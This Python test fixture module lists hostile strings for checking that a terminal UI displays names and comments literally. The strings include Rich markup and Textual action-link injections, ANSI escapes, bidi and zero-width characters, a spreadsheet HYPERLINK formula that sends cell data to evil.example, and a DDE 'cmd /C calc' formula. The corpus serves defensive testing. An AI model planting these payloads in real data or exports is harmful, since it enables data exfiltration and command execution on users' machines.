"""Text that must be shown literally (or neutralised) and change nothing else on screen.

Each entry: (label, the hostile text, what must be visible on screen for it).
"""

from __future__ import annotations

MARKUP = "[bold red]Рога[/]"
LINK = "[link=http://x]y[/link]"
CLEAR = "\x1b[2J"
TITLE = "\x1b]0;title\x07"
CONTROLS = "a\x00b\x08c\rd\x7fe\x9bf"
RTL = "\u202eКопыта"
ZERO_WIDTH = "Ро\u200bмашка\ufeff"
CYRILLIC = "ООО «Ёлка и ёжик»"
LONG = "Щ" * 10_000
# Names that once acted (see docs/security.md, "Hostile text"): a lone closing tag ended a closer's session
# when their deal moved; an action link became a button running Textual's `screenshot`; spreadsheet formulas.
CLOSE_TAG = "ООО «Рога [/] и копыта»"
CLICK = "[@click=app.screenshot('kbase-pwn.svg','/tmp')]Нажми[/]"
CLICK_QUIT = "[@click=app.quit]Выход[/]"
FORMULA_LINK = '+1+HYPERLINK("http://evil.example/?"&A1,"Счёт")'
FORMULA_CMD = "-2+3+cmd|' /C calc'!A0"

CORPUS: list[tuple[str, str, str]] = [
    ("rich markup", MARKUP, "[bold red]Рога[/]"),
    ("rich link", LINK, "[link=http://x]y[/link]"),
    ("clear screen", CLEAR, "[2J"),
    ("window title", TITLE, "]0;title"),
    ("control characters", CONTROLS, "abcdef"),
    ("right-to-left override", RTL, "Копыта"),
    ("zero-width", ZERO_WIDTH, "Ромашка"),
    ("cyrillic", CYRILLIC, "ООО «Ёлка и ёжик»"),
    ("10,000 characters", LONG, "ЩЩЩЩЩЩЩЩЩЩ"),
    ("lone closing tag", CLOSE_TAG, "Рога [/] и"),
    ("action link", CLICK, "[@click=app.screenshot("),
    ("quit link", CLICK_QUIT, CLICK_QUIT),
    ("formula link", FORMULA_LINK, '+1+HYPERLINK("http'),
    ("formula command", FORMULA_CMD, FORMULA_CMD),
]

# A name that carries the ones that acted, for the walk over every screen (tests/ui/test_hostile_walk.py).
ACTING_NAME = "[/] " + CLICK + " " + CLICK_QUIT + " [/bold]"
ACTING_VISIBLE = "[/] [@click=app.screenshot("

# One company name carrying the short ones (names are at most 300 characters), the
# visible form starting with the markup so that even a narrow column shows it.
HOSTILE_NAME = MARKUP + " " + LINK + " " + CLEAR + TITLE + RTL + " " + ZERO_WIDTH
VISIBLE_NAME_PREFIX = "[bold red]Рога[/]"
VISIBLE_NAME = "[bold red]Рога[/] [link=http://x]y[/link] [2J]0;titleКопыта Ромашка"

# Characters that must never reach the terminal.
UNSAFE_CHARS = (
    set(chr(c) for c in range(0x20))
    | {chr(0x7F)}
    | set(chr(c) for c in range(0x80, 0xA0))
    | {
        "\u202a",
        "\u202b",
        "\u202c",
        "\u202d",
        "\u202e",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u200b",
        "\ufeff",
    }
)

# Every hostile string in turn, for the texts the screen catalogue's hostile base is filled with
# (tests/ui/screen_catalogue.py): company names, full names, comments, reasons, file text.
HOSTILE_TEXTS = [
    ACTING_NAME,
    CLOSE_TAG,
    CLICK,
    CLICK_QUIT,
    MARKUP,
    LINK,
    FORMULA_LINK,
    FORMULA_CMD,
    CONTROLS,
    RTL,
    CLEAR + TITLE,
    ZERO_WIDTH,
]
